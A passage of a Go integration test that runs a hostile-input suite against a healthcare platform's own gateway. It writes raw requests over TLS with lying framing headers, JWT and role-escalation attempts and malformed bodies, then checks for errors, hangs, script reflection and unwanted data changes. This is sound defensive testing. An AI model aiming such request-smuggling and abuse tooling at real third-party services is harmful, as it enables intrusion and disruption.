package main

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	neturl "net/url"
	"path/filepath"
	"regexp"
	"slices"
	"sort"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"text/tabwriter"
	"time"

	"github.com/pms/pms/pkg/platform/polltest"

	"github.com/pms/pms/pkg/platform/audit"
	"github.com/pms/pms/pkg/platform/authz"
	"github.com/pms/pms/pkg/platform/authz/authztest"
	"github.com/pms/pms/pkg/platform/db"
	"github.com/pms/pms/pkg/platform/db/dbtest"
	"github.com/pms/pms/pkg/platform/errs"
	"github.com/pms/pms/pkg/platform/tlsconf"
	httptransport "github.com/pms/pms/transport/http"
)

// hostileCases is the exact number of hostile requests TestHostileInput sends (phase A and
// the barrage of phase B). Update it when cases are added or removed.

const hostileCases = 3881

// attackTimeout is the client timeout of one hostile request: no answer by then is a hang.
const attackTimeout = 10 * time.Second

// stallTimeout is the client timeout of a request whose head or body never ends. The
// gateway must give up on it by its own read timeouts (10 s for the head, 30 s for the whole
// request: addHTTP in runtime.go), well before this.
const stallTimeout = 45 * time.Second

// Categories of the hostile suite, in the order of its table.
const (
	catMalformed = "malformed JSON"
	catNesting   = "deep nesting"
	catHuge      = "huge strings and bodies"
	catTypes     = "wrong JSON types"
	catControl   = "control chars, NUL, bad UTF-8"
	catInjection = "SQL- and script-looking strings"
	catIDs       = "path traversal and bad ids"
	catQuery     = "bad query values"
	catHeaders   = "header abuse"
	catJWT       = "JWT attacks"
	catRoles     = "role escalation"
	catOthers    = "other users' resources"
	catState     = "state, replay, idempotency"
	catRoutes    = "unknown routes and methods"
)

var attackCategories = []string{catMalformed, catNesting, catHuge, catTypes, catControl, catInjection, catIDs,
	catQuery, catHeaders, catJWT, catRoles, catOthers, catState, catRoutes}

// hostile is one request of the suite, written byte for byte on its own TCP connection to
// the gateway (so that what Go's client refuses to send, such as control characters in a
// header or a lying Content-Length, can be sent too), and what the contract says must come
// back.
type hostile struct {
	cat, name    string
	method, path string // path is the request target exactly as sent
	token        string // bearer token; "" sends no Authorization
	body         string
	// ctype is the Content-Type: "" means application/json when there is a body, "-" none.
	ctype string
	// headers are name, value pairs, written as given: duplicates, control characters and
	// framing headers (which then replace the computed Content-Length) included.
	headers []string
	// head, when set, is the whole request head (request line, headers, blank line).
	head string
	// stream writes a chunked body until it fails or stop is closed.
	stream func(w io.Writer, stop <-chan struct{})
	// halfClose shuts the write side after the body, so a body shorter than its
	// Content-Length ends instead of leaving the server waiting.
	halfClose bool
	// want lists the statuses allowed; empty means any 4xx (a rejection).
	want []int
	// protocol allows net/http's own plain-text answer to a request it cannot parse, sent
	// before any PMS code runs (400, 431).
	protocol bool
	// mayClose allows the server to drop the connection without answering (a head that
	// never ends).
	mayClose bool
	// framing marks a request whose framing (Content-Length, Transfer-Encoding) lies or
	// cannot be parsed. The contract gives it a complete 4xx, or a closed connection with no
	// partial success: after answering, the server closes a connection whose remaining bytes
	// it cannot trust, and closing a socket with unread input makes the kernel send a reset,
	// which may reach the client before it has read the answer's body. So the connection may
	// end before an answer, or after a 4xx status line and before its body; never after any
	// other status.
	framing bool
	timeout time.Duration
	check   func(o outcome) error
}

// outcome is what came back for one hostile request.
type outcome struct {
	h      hostile
	status int
	header http.Header
	body   []byte
	hang   bool // no answer within the client timeout
	closed bool // the connection ended without an answer
	cut    bool // the connection ended (EOF, reset) after the status line, before the body's end
	err    error
}

// wire renders the request head and body.
func (h hostile) wire(host string) (string, string) {
	if h.head != "" {
		return h.head, h.body
	}
	var b strings.Builder
	fmt.Fprintf(&b, "%s %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n", h.method, h.path, host)
	if h.token != "" {
		b.WriteString("Authorization: Bearer " + h.token + "\r\n")
	}
	framed, typed := false, false
	for i := 0; i+1 < len(h.headers); i += 2 {
		switch strings.ToLower(h.headers[i]) {
		case "content-length", "transfer-encoding":
			framed = true
		case "content-type":
			typed = true
		}
		b.WriteString(h.headers[i] + ": " + h.headers[i+1] + "\r\n")
	}
	hasBody := h.body != "" || h.stream != nil
	switch {
	case typed || h.ctype == "-":
	case h.ctype != "":
		b.WriteString("Content-Type: " + h.ctype + "\r\n")
	case hasBody:
		b.WriteString("Content-Type: application/json\r\n")
	}
	switch {
	case framed:
	case h.stream != nil:
		b.WriteString("Transfer-Encoding: chunked\r\n")
	case hasBody || h.method == http.MethodPost || h.method == http.MethodPut || h.method == http.MethodPatch:
		b.WriteString("Content-Length: " + strconv.Itoa(len(h.body)) + "\r\n")
	}
	b.WriteString("\r\n")
	return b.String(), h.body
}

// send writes h on a new connection to addr (TLS with cfg, plain text when nil) and reads the
// answer within the client timeout.
func send(cfg *tls.Config, addr string, h hostile) outcome {
	o := outcome{h: h}
	timeout := h.timeout
	if timeout == 0 {
		timeout = attackTimeout
	}
	var conn net.Conn
	var err error
	if cfg != nil {
		conn, err = tls.DialWithDialer(&net.Dialer{Timeout: timeout}, "tcp", addr, cfg)
	} else {
		conn, err = net.DialTimeout("tcp", addr, timeout)
	}
	if err != nil {
		o.err = err
		return o
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(timeout))
	stop := make(chan struct{})
	defer close(stop)
	head, body := h.wire(addr)
	go func() {
		if _, err := io.WriteString(conn, head); err != nil {
			return
		}
		if h.stream != nil {
			h.stream(conn, stop)
			return
		}
		if _, err := io.WriteString(conn, body); err != nil {
			return
		}
		if h.halfClose {
			_ = conn.(interface{ CloseWrite() error }).CloseWrite()
		}
	}()
	br := bufio.NewReader(conn)
	var resp *http.Response
	for {
		resp, err = http.ReadResponse(br, &http.Request{Method: h.method})
		if err != nil || resp.StatusCode >= 200 || resp.StatusCode == http.StatusSwitchingProtocols {
			break
		}
		// 1xx (100 Continue): the answer follows.
	}
	if err != nil {
		var ne net.Error
		switch {
		case errors.As(err, &ne) && ne.Timeout():
			o.hang = true
		case errors.Is(err, io.EOF), errors.Is(err, io.ErrUnexpectedEOF), errors.Is(err, syscall.ECONNRESET):
			o.closed = true
		}
		o.err = err
		return o
	}
	defer resp.Body.Close()
	o.status, o.header = resp.StatusCode, resp.Header
	o.body, err = io.ReadAll(io.LimitReader(resp.Body, 16<<20))
	if err != nil {
		var ne net.Error
		o.hang = errors.As(err, &ne) && ne.Timeout()
		o.cut = errors.Is(err, io.EOF) || errors.Is(err, io.ErrUnexpectedEOF) || errors.Is(err, syscall.ECONNRESET)
		o.err = fmt.Errorf("reading the body: %w", err)
	}
	return o
}

var safeRequestID = regexp.MustCompile(`^[A-Za-z0-9._:-]{1,128}$`)

// problem says what is wrong with an outcome, "" when it is what the contract promises.
func (o outcome) problem() string {
	h := o.h
	switch {
	case o.hang:
		return "no answer within the client timeout (a hang)"
	case o.closed && (h.mayClose || h.framing):
		return ""
	case o.closed:
		return fmt.Sprintf("the connection ended without an answer: %v", o.err)
	case o.cut && o.status >= 400 && o.status < 500 && (h.framing || (h.protocol && o.header.Get("X-Request-ID") == "")):
		// A 4xx whose body the reset overtook: a refusal, not a partial success. Besides
		// framing attacks, this is net/http's own plain-text 400 to a head it cannot parse
		// (a control character in a header), which closes the connection with the request's
		// remaining bytes unread: the documented exception to the contract's body (docs/api.md),
		// so the reset loses nothing the contract promises.
		return ""
	case o.err != nil:
		return o.err.Error()
	case o.status >= 500:
		return fmt.Sprintf("a %d: %.300s", o.status, o.body)
	case len(h.want) == 0 && (o.status < 400 || o.status >= 500):
		return fmt.Sprintf("%d, want a rejection (4xx): %.300s", o.status, o.body)
	case len(h.want) > 0 && !slices.Contains(h.want, o.status):
		return fmt.Sprintf("%d, want one of %v: %.300s", o.status, h.want, o.body)
	}
	// PMS code sets X-Request-ID on every answer; one without it came from net/http itself,
	// before any handler ran (a request it could not parse, OPTIONS *).
	plain := h.protocol && o.header.Get("X-Request-ID") == ""
	if bytes.Contains(bytes.ToLower(o.body), []byte("<script")) {
		return "the answer reflects a <script> tag unescaped"
	}
	if !plain {
		if id := o.header.Get("X-Request-ID"); !safeRequestID.MatchString(id) {
			return fmt.Sprintf("X-Request-ID %q is not a well-formed id", id)
		}
		if strings.HasPrefix(h.path, "/fhir/") && h.method != http.MethodHead {
			if err := fhirShape(o); err != nil {
				return err.Error()
			}
		} else if o.status >= 400 {
			if err := errorShape(o); err != nil {
				return err.Error()
			}
		} else if len(o.body) > 0 && (!json.Valid(o.body) || !strings.HasPrefix(o.header.Get("Content-Type"), "application/json")) {
			return fmt.Sprintf("a %d whose body is not JSON: %.200s", o.status, o.body)
		}
	}
	if h.check != nil {
		if err := h.check(o); err != nil {
			return err.Error()
		}
	}
	return ""
}

// errorShape checks an error answer against the contract: JSON with exactly the error word
// of its status, a message, the request id of the X-Request-ID header, and fields only for
// invalid_argument.
func errorShape(o outcome) error {
	if o.h.method == http.MethodHead {
		return nil
	}
	if ct := o.header.Get("Content-Type"); !strings.HasPrefix(ct, "application/json") {
		return fmt.Errorf("a %d with Content-Type %q: %.200s", o.status, ct, o.body)
	}
	dec := json.NewDecoder(bytes.NewReader(o.body))
	dec.DisallowUnknownFields()
	var e struct {
		Error     errs.Kind         `json:"error"`
		Message   string            `json:"message"`
		Fields    map[string]string `json:"fields"`
		RequestID string            `json:"requestId"`
		// Candidates come with possible_duplicate only (issue 19).
		Candidates json.RawMessage `json:"candidates"`
	}
	if err := dec.Decode(&e); err != nil {
		return fmt.Errorf("a %d whose body is not the contract's error shape (%v): %.200s", o.status, err, o.body)
	}
	switch {
	case !e.Error.Known() || httptransport.StatusOf(e.Error) != o.status:
		return fmt.Errorf("a %d with error word %q", o.status, e.Error)
	case e.Message == "":
		return fmt.Errorf("a %d without a message", o.status)
	case e.RequestID == "" || e.RequestID != o.header.Get("X-Request-ID"):
		return fmt.Errorf("a %d whose requestId %q is not its X-Request-ID %q", o.status, e.RequestID, o.header.Get("X-Request-ID"))
	case len(e.Fields) > 0 && e.Error != errs.InvalidArgument:
		return fmt.Errorf("a %d %s with fields", o.status, e.Error)
	case (len(e.Candidates) > 0) != (e.Error == errs.PossibleDuplicate):
		return fmt.Errorf("a %d %s with candidates %.100s", o.status, e.Error, e.Candidates)
	}
	return nil
}

// fhirShape checks an answer of the FHIR facade: application/fhir+json, a valid FHIR R4
// resource (the official schema), and an OperationOutcome with issues when it is an error.
func fhirShape(o outcome) error {
	if len(o.body) == 0 {
		if o.status >= 400 {
			return fmt.Errorf("a FHIR %d without a body", o.status)
		}
		return nil
	}
	if ct := o.header.Get("Content-Type"); !strings.HasPrefix(ct, "application/fhir+json") {
		return fmt.Errorf("a FHIR %d with Content-Type %q: %.200s", o.status, ct, o.body)
	}
	if err := fhirSchemaProblem(o.body); err != nil {
		return fmt.Errorf("a FHIR %d that is not a valid FHIR R4 resource (%.200v): %.200s", o.status, err, o.body)
	}
	var r struct {
		ResourceType string
		Issue        []struct{ Severity, Code string }
	}
	_ = json.Unmarshal(o.body, &r)
	if o.status >= 400 && (r.ResourceType != "OperationOutcome" || len(r.Issue) == 0 || r.Issue[0].Code == "") {
		return fmt.Errorf("a FHIR %d that is not an OperationOutcome with an issue: %.200s", o.status, o.body)
	}
	return nil
}

// wantWord checks the error word of a rejection.
func wantWord(word errs.Kind) func(outcome) error {
	return func(o outcome) error {
		if got := errWord(o.body); got != string(word) {
			return fmt.Errorf("error word %q, want %q", got, word)
		}
		return nil
	}
}

// attackWorld is the running platform under attack: users of every role with their tokens,
// and resources to aim at.
type attackWorld struct {
	t                                    *testing.T
	gw, base                             string       // the gateway's address and base URL
	tls                                  *tls.Config  // the client side of the gateway's TLS
	client                               *http.Client // a client trusting the gateway's CA
	admin, clin, bill, analyst           string       // access tokens
	adminID, clinID, billID, analystID   string
	clin2Refresh                         string // a live refresh token of another clinician
	clin2Session                         string // that clinician's session id (the token's sid)
	clinDevice                           string // the clinician's device token
	p1, p2, deleted                      string // patients: shared, spare, deleted
	restricted                           string // a patient an admin restricted (break-glass)
	account                              string
	draft, open, paid                    string // invoices by status
	idemKey, idemBody, idemID            string // an Idempotency-Key used once, its body and result
	usedRefresh, loggedOut, disabledUser string // refresh tokens refused since phase A
	usedInvite, pendingInvite            string // set-password tokens: spent in setUp, and still unused
}

func (w *attackWorld) call(method, path, token, body string, headers ...string) (*http.Response, []byte) {
	w.t.Helper()
	return callWith(w.t, w.client, method, w.base+path, token, body, headers...)
}

// create POSTs body and returns the new resource's id.
func (w *attackWorld) create(path, token, body string) string {
	w.t.Helper()
	resp, b := w.call("POST", path, token, body)
	var v struct{ ID string }
	if resp.StatusCode != 201 || json.Unmarshal(b, &v) != nil || v.ID == "" {
		w.t.Fatalf("POST %s: %d %s", path, resp.StatusCode, b)
	}
	return v.ID
}

// deviceToken logs email in and returns the device token of that login.
func (w *attackWorld) deviceToken(email, password string) string {
	w.t.Helper()
	resp, b := w.call("POST", "/auth/login", "", `{"email":"`+email+`","password":"`+password+`"}`)
	var p struct{ DeviceToken string }
	if resp.StatusCode != 200 || json.Unmarshal(b, &p) != nil || p.DeviceToken == "" {
		w.t.Fatalf("login %s: %d %s", email, resp.StatusCode, b)
	}
	return p.DeviceToken
}

// sessionOf returns the session id (claim sid) of an access token.
func sessionOf(t *testing.T, token string) string {
	t.Helper()
	parts := strings.Split(token, ".")
	var c struct {
		SID string `json:"sid"`
	}
	if len(parts) != 3 {
		t.Fatalf("not a JWT: %q", token)
	}
	payload, err := base64.RawURLEncoding.DecodeString(parts[1])
	if err != nil || json.Unmarshal(payload, &c) != nil || c.SID == "" {
		t.Fatalf("no sid in the token: %v", err)
	}
	return c.SID
}

func (w *attackWorld) login(email, password string) (token, refresh string) {
	w.t.Helper()
	resp, b := w.call("POST", "/auth/login", "", `{"email":"`+email+`","password":"`+password+`"}`)
	var p struct{ Token, RefreshToken string }
	if resp.StatusCode != 200 || json.Unmarshal(b, &p) != nil || p.Token == "" {
		w.t.Fatalf("login %s: %d %s", email, resp.StatusCode, b)
	}
	return p.Token, p.RefreshToken
}

func (w *attackWorld) patientBody(email string) string {
	return `{"name":"Hostile Test","email":"` + email + `","address":"1 Main St","dateOfBirth":"1980-01-01"}`
}

func (w *attackWorld) invoiceBody(patientID string) string {
	return `{"patientId":"` + patientID + `","currency":"USD","dueDate":"2030-01-01","lines":[{"description":"Visit","quantity":1,"unitAmount":1000}]}`
}

// setUp builds the world through the gateway.
func (w *attackWorld) setUp() {
	t := w.t
	w.admin, _ = w.login(allAdminEmail, adminPassword)
	_, b := w.call("GET", "/auth/validate", w.admin, "")
	var v struct{ Sub string }
	if json.Unmarshal(b, &v) != nil || v.Sub == "" {
		t.Fatalf("validate: %s", b)
	}
	w.adminID = v.Sub
	user := func(email, role string) string {
		return w.create("/api/users", w.admin, `{"email":"`+email+`","password":"`+matrixPassword+`","role":"`+role+`"}`)
	}
	w.clinID = user("clinician@example.org", authz.RoleClinician)
	w.billID = user("billing@example.org", authz.RoleBilling)
	w.analystID = user("analyst@example.org", authz.RoleAnalyst)
	user("clinician2@example.org", authz.RoleClinician)
	victim := user("victim@example.org", authz.RoleClinician)
	w.clin, _ = w.login("clinician@example.org", matrixPassword)
	w.bill, _ = w.login("billing@example.org", matrixPassword)
	w.analyst, _ = w.login("analyst@example.org", matrixPassword)
	var clin2 string
	clin2, w.clin2Refresh = w.login("clinician2@example.org", matrixPassword)
	w.clin2Session = sessionOf(t, clin2)
	w.clinDevice = w.deviceToken("clinician@example.org", matrixPassword)
	_, w.usedRefresh = w.login("clinician2@example.org", matrixPassword)
	_, w.loggedOut = w.login("clinician2@example.org", matrixPassword)
	_, w.disabledUser = w.login("victim@example.org", matrixPassword)
	if resp, b := w.call("PATCH", "/api/users/"+victim, w.admin, `{"disabled":true}`); resp.StatusCode != 200 {
		t.Fatalf("disable: %d %s", resp.StatusCode, b)
	}
	invite := func(email string) string {
		resp, b := w.call("POST", "/api/users", w.admin, `{"email":"`+email+`","role":"analyst"}`)
		var c struct{ InviteToken string }
		if resp.StatusCode != 201 || json.Unmarshal(b, &c) != nil || c.InviteToken == "" {
			t.Fatalf("invite %s: %d %s", email, resp.StatusCode, b)
		}
		return c.InviteToken
	}
	w.usedInvite, w.pendingInvite = invite("invited@example.org"), invite("pending@example.org")
	if resp, b := w.call("POST", "/auth/password/set", "", `{"token":"`+w.usedInvite+`","newPassword":"`+matrixPassword+`"}`); resp.StatusCode != 204 {
		t.Fatalf("set password: %d %s", resp.StatusCode, b)
	}

	w.p1 = w.create("/api/patients", w.clin, w.patientBody("p1@example.org"))
	w.p2 = w.create("/api/patients", w.clin, w.patientBody("p2@example.org"))
	w.deleted = w.create("/api/patients", w.clin, w.patientBody("gone@example.org"))
	if resp, b := w.call("DELETE", "/api/patients/"+w.deleted, w.clin, ""); resp.StatusCode != 204 {
		t.Fatalf("delete: %d %s", resp.StatusCode, b)
	}
	w.restricted = w.create("/api/patients", w.clin, w.patientBody("restricted@example.org"))
	if resp, b := w.call("PUT", "/api/patients/"+w.restricted+"/confidentiality", w.admin, `{"confidentiality":"restricted"}`); resp.StatusCode != 200 {
		t.Fatalf("restrict: %d %s", resp.StatusCode, b)
	}
	// The restriction reaches billing with the PATIENT_UPDATED event: wait until billing's
	// own routes refuse the patient, so the cases on them see it (breakGlassCases).
	for deadline := time.Now().Add(30 * time.Second); ; {
		resp, b := w.call("GET", "/api/billing/accounts?patientId="+w.restricted, w.bill, "")
		if resp.StatusCode == 403 {
			break
		}
		if resp.StatusCode != 200 || time.Now().After(deadline) {
			t.Fatalf("billing after the restriction: %d %s", resp.StatusCode, b)
		}
		time.Sleep(20 * time.Millisecond)
	}
	var accounts []struct{ ID string }
	polltest.Until(w.t, 30*time.Second, "p1's billing account", func() bool { // opened after the 201
		resp, b := w.call("GET", "/api/billing/accounts?patientId="+w.p1, w.bill, "")
		if resp.StatusCode != 200 || json.Unmarshal(b, &accounts) != nil {
			w.t.Fatalf("account: %d %s", resp.StatusCode, b)
		}
		return len(accounts) == 1
	})
	w.account = accounts[0].ID
	w.draft = w.create("/api/billing/invoices", w.bill, w.invoiceBody(w.p1))
	w.open = w.create("/api/billing/invoices", w.bill, w.invoiceBody(w.p1))
	w.paid = w.create("/api/billing/invoices", w.bill, w.invoiceBody(w.p1))
	for _, id := range []string{w.open, w.paid} {
		if resp, b := w.call("POST", "/api/billing/invoices/"+id+"/issue", w.bill, ""); resp.StatusCode != 200 {
			t.Fatalf("issue: %d %s", resp.StatusCode, b)
		}
	}
	if resp, b := w.call("POST", "/api/billing/invoices/"+w.paid+"/payments", w.bill, `{"amount":1000,"method":"card"}`); resp.StatusCode != 200 {
		t.Fatalf("pay: %d %s", resp.StatusCode, b)
	}
}

// TestHostileInput is the hostile input suite (`make attack`): `pms all` on PostgreSQL,
// and through the gateway's port only, hundreds of generated hostile requests in every
// category of the contract's promise that "no input, however malformed, may produce a 500,
// a panic, a hang, or a partial write". Phase A sends the hostile requests that are meant
// to succeed or to change state by design (injection-looking text stored verbatim, refresh
// token reuse revoking its family); phase B snapshots every table that holds data, sends
// the rest concurrently (each one a rejection or a read), and compares: nothing a rejected
// request did may show. Then the platform must still serve, the audit chains must verify,
// and the logs must hold no panic or internal error.
func TestHostileInput(t *testing.T) {
	url := dbtest.PostgresDatabase(t)
	dataDir := t.TempDir()
	var logs lockedBuffer
	// Over TLS and mutual TLS, as a deployment runs (issue 15): every hostile byte goes
	// through the gateway's TLS listener.
	certs := certsFor(t)
	a, _ := startPMSLogs(t, allAddrs, &logs, allArgs(t, url, append(tlsArgs(certs), "--data-dir="+dataDir, "--gateway-client-rate=0", "--log-level=warn")...)...)
	client := httpsClient(t, certs)
	for _, k := range []string{"auth/admin", "billing/admin", "patient/admin", "gateway/admin"} {
		waitReadyWith(t, client, "https://"+a[k])
	}
	w := &attackWorld{t: t, gw: a["gateway/http"], base: "https://" + a["gateway/http"], client: client,
		tls: mustClientTLS(t, tlsconf.Files{CA: filepath.Join(certs, "ca.pem")})}
	w.setUp()
	is := ringIssuer(t, dataDir)
	loadFHIRSchema(t) // the FHIR routes' answers are checked against it

	var outcomes []outcome
	run := func(cases []hostile, workers int) {
		got := make([]outcome, len(cases))
		var wg sync.WaitGroup
		jobs := make(chan int)
		for range workers {
			wg.Go(func() {
				for i := range jobs {
					got[i] = send(w.tls, w.gw, cases[i])
				}
			})
		}
		for i, h := range cases {
			if h.timeout > attackTimeout {
				// The stalled ones run beside the pool, not in it.
				wg.Go(func() { got[i] = send(w.tls, w.gw, h) })
				continue
			}
			jobs <- i
		}
		close(jobs)
		wg.Wait()
		outcomes = append(outcomes, got...)
	}

	// Phase A, one at a time: what succeeds or changes state by design.
	w.phaseA(func(h hostile) outcome {
		o := send(w.tls, w.gw, h)
		outcomes = append(outcomes, o)
		return o
	})

	// Phase B: snapshot, barrage, compare.
	ctx := context.Background()
	conn, err := db.Open(ctx, url, "public")
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	before := snapshot(t, conn)
	barrage := w.phaseB(is)
	run(barrage, 4)
	after := snapshot(t, conn)
	for table, b := range before {
		if after[table] != b {
			t.Errorf("data changed during the barrage of rejected requests: %s was %s, now %s", table, b, after[table])
		}
	}

	report(t, outcomes)
	failed := 0
	for _, o := range outcomes {
		if p := o.problem(); p != "" {
			failed++
			if failed <= 60 {
				t.Errorf("[%s] %s (%s %.120q): %s", o.h.cat, o.h.name, o.h.method, o.h.path, p)
			}
		}
	}
	if failed > 60 {
		t.Errorf("... and %d more failures", failed-60)
	}
	// The exact size of the suite: a case dropped by a refactoring (a loop that no longer
	// runs, a table cut short) fails here. Update hostileCases when cases are added.
	if len(outcomes) != hostileCases {
		t.Errorf("the suite sent %d hostile requests, want exactly %d (hostileCases)", len(outcomes), hostileCases)
	}

	// Afterwards the platform still serves: a create and a read back.
	id := w.create("/api/patients", w.clin, w.patientBody("after-the-storm@example.org"))
	if resp, b := w.call("GET", "/api/patients/"+id, w.clin, ""); resp.StatusCode != 200 || !strings.Contains(string(b), "after-the-storm@example.org") {
		t.Errorf("a read after the barrage: %d %s", resp.StatusCode, b)
	}
	// Every audit chain still verifies (the barrage added rows, none broke the chain).
	for _, schema := range []string{"auth", "patient", "billing"} {
		d, err := db.Open(ctx, url, schema)
		if err != nil {
			t.Fatal(err)
		}
		rep, err := audit.Verify(ctx, d, "audit_log")
		_ = d.Close()
		if err != nil || !rep.OK || rep.Rows == 0 {
			t.Errorf("%s audit chain: %+v %v", schema, rep, err)
		}
	}
	for _, bad := range []string{"panic serving request", `msg="internal error"`, "level=error"} {
		if strings.Contains(logs.String(), bad) {
			t.Errorf("the logs hold %q:\n%.4000s", bad, logs.String())
		}
	}
}

// watchedTables are the tables that hold the platform's data, by schema. Audit logs,
// outboxes, processed events and login throttling are left out: rejected requests are
// meant to add to them.
var watchedTables = map[string][]string{
	"auth":    {"users", "refresh_tokens", "set_password_tokens"},
	"patient": {"patients", "patient_versions", "patient_identifiers", "idempotency_keys", "patient_merges"},
	"billing": {"accounts", "invoices", "invoice_lines", "payments", "idempotency_keys", "merge_moves"},
}

// snapshot returns, per watched table, its row count and a digest of every row.
func snapshot(t *testing.T, d *db.DB) map[string]string {
	t.Helper()
	out := map[string]string{}
	for schema, tables := range watchedTables {
		for _, table := range tables {
			name := schema + "." + table
			var s string
			if err := d.GetContext(context.Background(), &s, `SELECT count(*)::text || ' rows, digest ' || coalesce(md5(string_agg(t::text, E'\n' ORDER BY t::text)), '-') FROM `+name+` t`); err != nil {
				t.Fatalf("snapshot %s: %v", name, err)
			}
			out[name] = s
		}
	}
	return out
}

// report logs the count of answers by category and status.
func report(t *testing.T, outcomes []outcome) {
	type row struct {
		n, ok2xx, err5xx, hangs, closed int
		by                              map[int]int
	}
	rows := map[string]*row{}
	total := &row{by: map[int]int{}}
	codes := map[int]bool{}
	for _, o := range outcomes {
		r := rows[o.h.cat]
		if r == nil {
			r = &row{by: map[int]int{}}
			rows[o.h.cat] = r
		}
		for _, r := range []*row{r, total} {
			r.n++
			switch {
			case o.hang:
				r.hangs++
			case o.closed || o.status == 0:
				r.closed++
			case o.status < 300:
				r.ok2xx++
			case o.status >= 500:
				r.err5xx++
			default:
				r.by[o.status]++
				codes[o.status] = true
			}
		}
	}
	var cols []int
	for c := range codes {
		cols = append(cols, c)
	}
	sort.Ints(cols)
	var b strings.Builder
	tw := tabwriter.NewWriter(&b, 0, 0, 1, ' ', tabwriter.AlignRight|tabwriter.Debug)
	head := "category\trequests\t2xx\t"
	for _, c := range cols {
		head += strconv.Itoa(c) + "\t"
	}
	fmt.Fprintln(tw, head+"5xx\tclosed\thangs\t")
	line := func(name string, r *row) {
		s := fmt.Sprintf("%s\t%d\t%d\t", name, r.n, r.ok2xx)
		for _, c := range cols {
			s += strconv.Itoa(r.by[c]) + "\t"
		}
		fmt.Fprintln(tw, s+fmt.Sprintf("%d\t%d\t%d\t", r.err5xx, r.closed, r.hangs))
	}
	for _, c := range attackCategories {
		if r := rows[c]; r != nil {
			line(c, r)
		}
	}
	line("total", total)
	_ = tw.Flush()
	t.Logf("hostile input through the gateway: %d requests\n%s", total.n, b.String())
}

// obj renders a JSON object from raw values in the order given (values are written as
// they are, so they may hold bytes no encoder would produce).
func obj(kv ...string) string {
	var b strings.Builder
	b.WriteByte('{')
	for i := 0; i+1 < len(kv); i += 2 {
		if i > 0 {
			b.WriteByte(',')
		}
		b.WriteString(strconv.Quote(kv[i]) + ":" + kv[i+1])
	}
	b.WriteByte('}')
	return b.String()
}

// fields returns the top-level fields of a JSON object as raw values, in document order.
func fields(body string) (keys []string, values map[string]string) {
	dec := json.NewDecoder(strings.NewReader(body))
	values = map[string]string{}
	_, _ = dec.Token()
	for dec.More() {
		k, _ := dec.Token()
		var raw json.RawMessage
		_ = dec.Decode(&raw)
		keys = append(keys, k.(string))
		values[k.(string)] = string(raw)
	}
	return keys, values
}

// with returns body with field k's raw value replaced by v (or added, last).
func with(body, k, v string) string {
	keys, values := fields(body)
	if _, ok := values[k]; !ok {
		keys = append(keys, k)
	}
	values[k] = v
	var kv []string
	for _, key := range keys {
		kv = append(kv, key, values[key])
	}
	return obj(kv...)
}

// bodyRoute is a route that takes a JSON body, called by a role that may call it, with a
// valid body: every mutation of it the suite makes is invalid.
type bodyRoute struct {
	method, path, token, body string
	// also lists statuses besides rejections that a mutated body may get (logout answers
	// 204 to any token, known or not, so as not to be an oracle).
	also []int
	// emptyOK: an empty body is a valid request here (issue, void).
	emptyOK bool
}

func (r bodyRoute) req(cat, name, body string) hostile {
	return hostile{cat: cat, name: name, method: r.method, path: r.path, token: r.token, body: body, want: r.wantRejected()}
}

func (r bodyRoute) wantRejected() []int {
	if len(r.also) == 0 {
		return nil
	}
	return append([]int{400, 401, 403, 404, 409, 413, 415, 429}, r.also...)
}

func (w *attackWorld) bodyRoutes() []bodyRoute {
	return []bodyRoute{
		{method: "POST", path: "/auth/login", body: `{"email":"nobody@example.org","password":"not the password 1"}`},
		{method: "POST", path: "/auth/refresh", body: `{"refreshToken":"` + strings.Repeat("A", 43) + `"}`},
		{method: "POST", path: "/auth/logout", body: `{"refreshToken":"` + strings.Repeat("A", 43) + `"}`, also: []int{204}},
		{method: "POST", path: "/auth/password/set", body: `{"token":"` + strings.Repeat("A", 43) + `","newPassword":"` + matrixPassword + `"}`},
		{method: "POST", path: "/api/users", token: w.admin, body: `{"email":"new-user@example.org","password":"` + matrixPassword + `","role":"analyst"}`},
		{method: "PATCH", path: "/api/users/" + w.analystID, token: w.admin, body: `{"role":"billing"}`},
		{method: "POST", path: "/api/patients", token: w.clin, body: with(w.patientBody("never-created@example.org"), "family", `"Test"`)},
		{method: "PUT", path: "/api/patients/" + w.p1, token: w.clin, body: `{"name":"Changed By Attack","email":"p1@example.org","address":"2 Main St","dateOfBirth":"1980-01-01"}`},
		{method: "POST", path: "/api/billing/invoices", token: w.bill, body: w.invoiceBody(w.p1)},
		{method: "POST", path: "/api/billing/invoices/" + w.open + "/payments", token: w.bill, body: `{"amount":1,"method":"cash"}`},
		{method: "POST", path: "/api/billing/invoices/" + w.draft + "/issue", token: w.bill, body: `{}`, emptyOK: true},
		{method: "POST", path: "/api/billing/invoices/" + w.open + "/void", token: w.bill, body: `{}`, emptyOK: true},
		// Last, so the indices above (routes[6] …) stay.
		{method: "POST", path: "/auth/login/mfa", body: `{"challenge":"` + strings.Repeat("A", 43) + `","code":"123456"}`},
		// The search by POST (issue 17): a read, its filters in the body.
		{method: "POST", path: "/api/patients/_search", token: w.clin, body: `{"q":"Patient","limit":5}`},
		// break-glass (patient_breakglass_attack_test.go)
		{method: "POST", path: "/api/patients/" + w.restricted + "/break-glass", token: w.clin, body: `{"reason":"unconscious patient in A&E"}`},
		{method: "PUT", path: "/api/patients/" + w.p2 + "/confidentiality", token: w.admin, body: `{"confidentiality":"restricted"}`},
		// The FHIR facade (docs/fhir.md): the Patient resource's create and update.
		{method: "POST", path: "/fhir/Patient", token: w.clin, body: fhirPatientJSON("", "Never Created", "never-created-fhir@example.org", "1980-01-01")},
		{method: "PUT", path: "/fhir/Patient/" + w.p1, token: w.clin, body: fhirPatientJSON(w.p1, "Changed By Attack", "p1@example.org", "1980-01-01")},
	}
}

// idRoute is a route with an {id} in its path, called by a role that may call it.
type idRoute struct {
	method, path, token, body string
}

func (w *attackWorld) idRoutes() []idRoute {
	return []idRoute{
		{"GET", "/api/patients/{id}", w.clin, ""},
		{"PUT", "/api/patients/{id}", w.clin, `{"name":"Changed By Attack","email":"p1@example.org","address":"2 Main St","dateOfBirth":"1980-01-01"}`},
		{"DELETE", "/api/patients/{id}", w.clin, ""},
		{"GET", "/api/patients/{id}/history", w.clin, ""},
		{"GET", "/api/patients/{id}/billing-account", w.clin, ""},
